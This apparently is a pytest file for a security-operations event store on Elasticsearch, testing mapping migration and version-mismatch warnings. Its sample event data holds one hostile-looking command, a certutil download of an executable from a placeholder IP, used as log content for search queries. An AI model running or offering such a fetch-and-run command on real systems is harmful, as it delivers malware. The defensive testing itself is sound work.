"""A real change of the mapping: what version 1 stored and what is stored since are both found."""

import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from soc.model.event import Event
from soc.model.time import now
from soc.store.elastic import ElasticStore
from soc.store.elastic.roles import ROLES
from soc.store.elastic.templates import COMPONENT, VERSION, component
from soc.store.query import parse
from tests.bench.worker import counted
from tests.command import soc
from tests.elastic.cluster import Cluster
from tests.elastic.test_closed_datasets import keyed
from tests.elastic.test_robust import drained
from tests.soc.store.elastic.test_templates import of_version_1

pytestmark = [pytest.mark.elastic, pytest.mark.slow]
NOON = datetime(2026, 11, 22, 12, tzinfo=UTC)
COMMAND = "CERTUTIL.exe -urlcache -f http://203.0.113.9/a.exe"
INDEX_OF_1 = {
    "names": [
        "winlog",
        "winlog.event_data",
        "winlog.event_data.CommandLine",
        "winlog.event_data.LogonType",
        "winlog.event_data.OfNoRule",
    ],
    "tokens": [
        f"winlog.event_data.CommandLine={COMMAND.lower()}",
        "winlog.event_data.LogonType=3",
        "winlog.event_data.OfNoRule=rare",
    ],
    "words": [COMMAND, "3", "Rare"],
}
"""As version 1 wrote it beside these fields."""
FIELDS = {
    "winlog.event_data.CommandLine": COMMAND,
    "winlog.event_data.LogonType": "3",
    "winlog.event_data.OfNoRule": "Rare",
}
QUERIES = [
    "winlog.event_data.CommandLine:*urlcache*",
    "winlog.event_data.CommandLine:certutil*",
    f'winlog.event_data.CommandLine:"{COMMAND}"',
    "winlog.event_data.CommandLine:/cert.+exe/",
    "winlog.event_data.CommandLine:[c TO d]",
    "winlog.event_data.LogonType:(2 OR 3)",
    "NOT winlog.event_data.LogonType:2",
    "_exists_:winlog.event_data.CommandLine",
    "winlog.event_data.OfNoRule:rare",
    "urlcache",
]


def an_event(name: str) -> Event:
    known = {"@timestamp": "2026-11-22T12:00:00.000001Z", "event.id": name, "event.dataset": "test"}
    return known | FIELDS


def old_line(name: str) -> dict[str, object]:
    data = {key.rpartition(".")[2]: value for key, value in FIELDS.items()}
    return {
        "@timestamp": "2026-11-22T12:00:00.000001Z",
        "event": {"id": name, "dataset": "test"},
        "winlog": {"event_data": data},
        "soc.index": INDEX_OF_1,
    }


@pytest.fixture
def older(cluster: Cluster, store: ElasticStore, place: str) -> ElasticStore:
    """A store whose stream and month of alerts version 1 began and wrote to."""
    stream, month = f"logs-soc.test-{place}", f"soc-alerts-{place}-2026.11"
    template = {"index_patterns": [stream], "priority": 900, "data_stream": {}}
    cluster.ask(
        "PUT", f"/_index_template/{stream}", template | {"template": of_version_1(), "version": 1}
    )
    try:
        cluster.ask("PUT", f"/{stream}/_create/old?refresh=true", old_line("old"))
    finally:
        cluster.ask("DELETE", f"/_index_template/{stream}")
    cluster.ask("PUT", f"/{month}", of_version_1())
    alert = old_line("old") | {"soc": {"alert": {"id": "old"}}}
    cluster.ask("PUT", f"/{month}/_create/old?refresh=true", alert)
    return store


def foreign(cluster: Cluster, index: str, query: str) -> set[str]:
    """What a program finds that knows Elasticsearch and nothing of ours."""
    body = {"query": {"query_string": {"query": query, "analyze_wildcard": True}}}
    found = cluster.ask("POST", f"/{index}/_search", body)
    return {hit["_id"] for hit in found["hits"]["hits"]}


def test_both_are_found(cluster: Cluster, older: ElasticStore, place: str) -> None:
    stream, month = f"logs-soc.test-{place}", f"soc-alerts-{place}-2026.11"
    mapped = older.upkeep.migrate(now)
    assert len(mapped) == 2
    assert older.upkeep.migrate(now) == []
    assert older.append([an_event("new")], now=NOON)[0].outcome == "created"
    older.create_alerts([an_event("new") | {"soc.alert.id": "new"}])
    cluster.ask("POST", f"/{stream},{month}/_refresh")
    for query in QUERIES:
        found = {one["event.id"] for one in older.search(parse(query)).events}
        assert found == {"old", "new"}, query
        alerts = older.search(parse(query), collection="alerts").events
        assert {one["event.id"] for one in alerts} == {"old", "new"}, query
    assert older.get(["old", "new"]) == [an_event("old"), an_event("new")]
    assert [one["event.id"] for one in drained(older)] == ["old", "new"]
    for query in ("winlog.event_data.CommandLine:*URLCACHE*", "winlog.event_data.LogonType:3"):
        assert foreign(cluster, stream, query) == {"new"}
    assert foreign(cluster, stream, "soc.unmapped.winlog.event_data.OfNoRule:Rare") == {"new"}


def test_nodes_of_version_1_go_on_writing(
    cluster: Cluster, older: ElasticStore, place: str
) -> None:
    """The admin migrates first, the nodes are updated one by one."""
    older.upkeep.migrate(now)
    cluster.ask("PUT", f"/logs-soc.test-{place}/_create/late?refresh=true", old_line("late"))
    for query in QUERIES:
        found = {one["event.id"] for one in older.search(parse(query)).events}
        assert found == {"old", "late"}, query
    assert older.get(["late"]) == [an_event("late")]


def master(cluster: Cluster, place: str) -> dict[str, str]:
    found = {"SOC_STORE__URL": cluster.url, "SOC_STORE__ENVIRONMENT": place}
    found |= {"SOC_STORE__USER": cluster.user, "SOC_STORE__PASSWORD": str(cluster.secret)}
    return found | ({"SOC_STORE__CA": str(cluster.ca)} if cluster.ca else {})


def started(command: tuple[str, ...], home: Path, environ: dict[str, str]) -> str:
    """Return what a command that goes on says at its start."""
    kept = {k: v for k, v in os.environ.items() if not k.startswith("SOC_")}
    process = subprocess.Popen(
        [sys.executable, "-m", "soc", *command],
        cwd=home,
        env=kept | environ | {"SOC_PATHS__STATE": str(home / "state"), "HOME": str(home)},
        stderr=subprocess.PIPE,
    )
    assert process.stderr
    said = b""
    for line in process.stderr:
        said += line
        if b"Ctrl-C" in line:
            break
    process.terminate()
    process.stderr.close()
    process.wait(30)
    return said.decode()


def test_an_old_index_is_noticed_until_it_is_migrated(
    cluster: Cluster, older: ElasticStore, place: str, tmp_path: Path
) -> None:
    """By everybody who may look: a node's key may not, and is told nothing wrong."""
    environ = master(cluster, place)
    log = tmp_path / "auth.log"
    log.touch()
    (tmp_path / "soc.toml").write_text(f'[[inputs]]\npath = "{log}"\n')
    keys = {role: older.keys.create(role, role, days=1).secret for role in ROLES}
    views = {role: keyed(cluster, place, tmp_path / role, secret) for role, secret in keys.items()}
    for role, view in views.items():
        problem = view.mismatch()
        if role == "node":
            assert problem is None
        else:
            assert problem is not None
            assert problem.hint == "soc store migrate", role
            assert ": 2, such as .ds-logs-soc.test-" in problem.message
    said = {
        "status": soc("store", "status", home=tmp_path, environ=environ).err,
        "init": soc("store", "init", home=tmp_path, environ=environ).err,
        "run": started(("run",), tmp_path, environ),
        "worker": started(("worker", "run"), tmp_path, environ),
    }
    for command, text in said.items():
        assert text.count("soc store migrate") == 1, (command, text)
    (check,) = version_checks(tmp_path, environ)
    assert (check["state"], check["fix"]) == ("warning", "soc store migrate")

    ran = soc("store", "migrate", home=tmp_path, environ=environ)
    assert ran.code == 0, ran.err
    for role, view in views.items():
        assert view.mismatch() is None, role
        view.close()
    assert "migrate" not in soc("store", "status", home=tmp_path, environ=environ).err
    assert version_checks(tmp_path, environ) == []


def version_checks(home: Path, environ: dict[str, str]) -> list[dict[str, str]]:
    found = soc("doctor", home=home, environ=environ).documents
    assert [one for one in found if one["state"] == "failure"] == []
    return [one for one in found if one["check"] == "version"]


def test_a_node_says_that_the_templates_are_of_another_version(
    own: Cluster, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """They are the cluster's: so this one has a server of its own."""
    admin = own.store("city")
    secret = admin.keys.create("node", "node", days=1).secret
    environ = master(own, "city")
    node_environ = environ | {"SOC_STORE__USER": "", "SOC_STORE__API_KEY": f"file:{tmp_path}/key"}
    del node_environ["SOC_STORE__PASSWORD"], node_environ["SOC_STORE__USER"]
    path = f"/_component_template/{COMPONENT}"
    for version, hint in ((VERSION - 1, "soc store migrate"), (VERSION + 1, "update soc here")):
        own.ask("PUT", path, component() | {"version": version})
        node = keyed(own, "city", tmp_path / "key", secret)
        asked = counted(node)
        caplog.clear()
        for number in range(3):
            assert node.append([an_event(f"{version}{number}")], now=NOON)
        assert [hint in one.getMessage() for one in caplog.records] == [True], "once"
        assert asked.count(f"GET {COMPONENT}") == 1
        assert len(asked) <= 6, asked
        node.close()
        for known in (environ, node_environ):
            (check,) = version_checks(tmp_path, known)
            assert (check["state"], check["fix"]) == ("warning", hint)
            assert hint in soc("store", "status", home=tmp_path, environ=known).err
    for command in ("init", "migrate"):
        ran = soc("store", command, home=tmp_path, environ=environ)
        assert ran.code == 5
        assert "update soc here" in ran.err
    admin.close()
